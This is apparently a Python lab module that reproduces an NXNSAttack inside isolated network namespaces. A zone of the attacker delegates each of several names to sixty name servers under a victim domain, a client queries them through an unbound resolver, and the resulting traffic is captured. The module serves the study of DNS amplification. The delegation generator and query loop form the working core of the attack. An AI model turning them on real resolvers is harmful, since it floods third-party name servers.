"""Delegations to very many name servers of a victim, as in an NXNSAttack, which a client lets an unbound follow.

The network is that of :mod:`lab.fourresolvers`, with a zone of the attacker beside the others.
"""

from __future__ import annotations

from pathlib import Path

from . import fourresolvers
from .capture import Capture
from .namespaces import Namespaces
from .openresolver import wait_for_answer

TOOLS = ("ip", "nsd", "unbound", "dig", "tcpdump", "zeek")
CLIENT, RESOLVER = fourresolvers.CLIENT, fourresolvers.RESOLVERS["unbound"]
ATTACK, VICTIM = "attack-x.com", "victim-x.com"
NAMES, EACH = 3, 60
"""Names that the client asks for, and the name servers that each is delegated to."""


def make(folder: Path) -> Path:
    """Ask for each name once, and return the capture on both sides of the resolver.

    Raises LabError where something does not work.
    """
    delegations = [f"a{name} 60 NS n{each}.s{name}.{VICTIM}." for name in range(NAMES) for each in range(EACH)]
    with Namespaces() as net:
        net.bridge("net")
        net.host("authority", {"net": [f"{address}/24" for address in fourresolvers.SERVERS]})
        net.host("client", {"net": [f"{CLIENT}/24"]})
        net.host("unbound", {"net": [f"{RESOLVER}/24"]})
        fourresolvers.start_authority(net, folder, zones={ATTACK: delegations})
        wait_for_answer(net, "client", fourresolvers.SERVERS[0], "example.com")
        fourresolvers.start(net, "unbound", folder, RESOLVER)
        wait_for_answer(net, "client", RESOLVER, "example.com")
        capture = Capture(net, "net", folder)
        for name in range(NAMES):
            words = ["dig", f"@{RESOLVER}", f"a{name}.{ATTACK}", "+tries=1", "+time=10"]
            net.start("client", words, folder / f"a{name}.dig").wait(15)
        capture.stop()
        return capture.file
